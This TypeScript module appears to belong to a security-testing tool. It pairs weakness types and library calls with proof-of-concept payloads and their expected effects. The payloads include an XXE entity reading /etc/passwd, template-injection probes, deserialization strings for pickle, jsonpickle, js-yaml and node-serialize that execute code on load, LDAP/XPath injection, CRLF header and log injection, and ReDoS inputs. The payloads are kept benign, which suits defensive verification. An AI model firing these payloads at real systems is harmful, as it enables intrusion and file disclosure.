import type { Expectation } from '../../artifacts/witness';

/** A value that shows a flaw, and what is seen then. */
export interface Payload {
  value: string | object;
  expects: Expectation;
}

const shows = (value: Payload['value'], effect: Expectation['effect'], text?: string): Payload => ({
  value,
  expects: { effect, ...(text === undefined ? {} : { shows: text }) },
});

/** A file that is there on most systems that servers run on, and what it shows. */
export const KNOWN_FILE = { path: 'etc/passwd', shows: 'root:' } as const;
export const FOREIGN_HOST = 'example.org';
/** The machine itself, by a name that needs no address. */
export const LOOPBACK = 'localhost';
export const SCRIPT = 'alert(1)';

/** Expressions of a language that show where the program runs, by the language of the place. */
export const EXPRESSIONS: Readonly<Record<string, string>> = {
  python: "__import__('os').getcwd()",
  javascript: 'process.cwd()',
  typescript: 'process.cwd()',
};

/** Template engines by the call that renders, and an expression in the syntax of each. */
const TEMPLATES: readonly [RegExp, string][] = [
  [/\b(?:ejs|underscore|lodash|_\.template|eta|erb)\b/i, '<%= 7*7 %>'],
  [/\b(?:pug|jade)\b/i, '#{7*7}'],
  [/\b(?:mako|doT|freemarker)\b/i, '${7*7}'],
  [
    /\b(?:tornado|jinja2?|render_template_string|nunjucks|swig|twig|handlebars|hbs|mustache|Environment|from_string|Template)\b/i,
    '{{7*7}}',
  ],
];

/** Objects that run a command when they are read, by the call that reads them. */
const OBJECTS: readonly [RegExp, string][] = [
  [/jsonpickle/i, '{"py/reduce": [{"py/function": "os.getcwd"}, {"py/tuple": []}]}'],
  [/js-?yaml|yaml\.(?:safeL|l)oad(?:All)?$/, '!!js/function "function(){return process.cwd()}"'],
  [/node-serialize|unserialize/i, '{"x":"_$$ND_FUNC$$_function(){return process.cwd()}()"}'],
  [/funcster|cryo|serialize-to-js/i, '{"__js_function":"function(){return process.cwd()}"}'],
];
const PYTHON_OBJECTS: readonly [RegExp, string][] = [
  [/jsonpickle/i, '{"py/reduce": [{"py/function": "os.getcwd"}, {"py/tuple": []}]}'],
  [/yaml/i, '!!python/object/apply:os.getcwd []'],
  [/pickle|shelve|dill|joblib|read_pickle|load$|loads$/i, 'cos\ngetcwd\n(tR.'],
];

/** Of weaknesses where neither what stands around the value nor the language matters. */
const PLAIN: Readonly<Record<string, readonly Payload[]>> = {
  'xml-external-entities': [
    shows(
      '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY file SYSTEM "file:///etc/passwd">]><x>&file;</x>',
      'reads-file',
      KNOWN_FILE.shows,
    ),
  ],
  'ldap-injection': [shows('*)(uid=*', 'other-records'), shows('*', 'other-records')],
  'xpath-injection': [shows("' or '1'='1", 'more-records'), shows('1 or 1=1', 'more-records')],
  'prototype-pollution': [
    shows({ ['__proto__']: { polluted: 'yes' } }, 'pollutes', 'polluted'),
    shows('__proto__', 'pollutes', '__proto__'),
  ],
  'regex-injection': [shows(`(a+)+$`, 'slow')],
  redos: [shows(`${'a'.repeat(48)}!`, 'slow')],
  'log-injection': [shows('x\nINFO entry made by the sender', 'forges-line', 'INFO entry made by the sender')],
  'header-injection': [shows('x\r\nX-Injected: 1', 'splits', 'X-Injected')],
  'resource-exhaustion': [shows('1000000000', 'slow')],
  'unsafe-reflection': [shows('constructor', 'calls', 'constructor'), shows('__init__', 'calls', '__init__')],
  'trust-boundary-violation': [shows('admin', 'sets-field', 'admin')],
};

export const plainPayloads = (weakness: string): readonly Payload[] => PLAIN[weakness] ?? [];

export const templatePayloads = (sink: string): Payload[] => [
  shows(TEMPLATES.find(([engine]) => engine.test(sink))?.[1] ?? '{{7*7}}', 'evaluates', '49'),
];

export function objectPayloads(sink: string, language: string): Payload[] {
  const rows = language === 'python' ? PYTHON_OBJECTS : OBJECTS;
  const value = rows.find(([reader]) => reader.test(sink))?.[1];
  return value === undefined ? [] : [shows(value, 'runs')];
}

/** Names of fields that let their owner do more. */
export const POWERFUL =
  /^(?:is_?)?(?:admin|super_?user|staff|owner|role|roles|permissions?|balance|verified|is_active)$/i;

/** The encodings that libraries take off on the way, by the call; `none`: the text stays as it is. */
const TAKEN_OFF: readonly [RegExp, 'base64' | 'hex' | 'json' | 'none'][] = [
  [/b64decode|base64.*decode|^atob$|decodebytes/i, 'base64'],
  [/unhexlify|fromhex/i, 'hex'],
  [/JSON\.parse|json\.loads?$/, 'json'],
  [/unquote|decodeURI|unescape|urldecode/, 'none'],
];

export const takenOff = (call: string): 'base64' | 'hex' | 'json' | 'none' =>
  TAKEN_OFF.find(([path]) => path.test(call))?.[1] ?? 'none';

/** Members of an uploaded file that say something of it, and what they say. */
export const FILE_MEMBERS: Readonly<Record<string, 'name' | 'type' | 'content' | 'size'>> = {
  originalname: 'name',
  originalfilename: 'name',
  filename: 'name',
  name: 'name',
  mimetype: 'type',
  content_type: 'type',
  contenttype: 'type',
  type: 'type',
  size: 'size',
  data: 'content',
  buffer: 'content',
  file: 'content',
  body: 'content',
  stream: 'content',
};
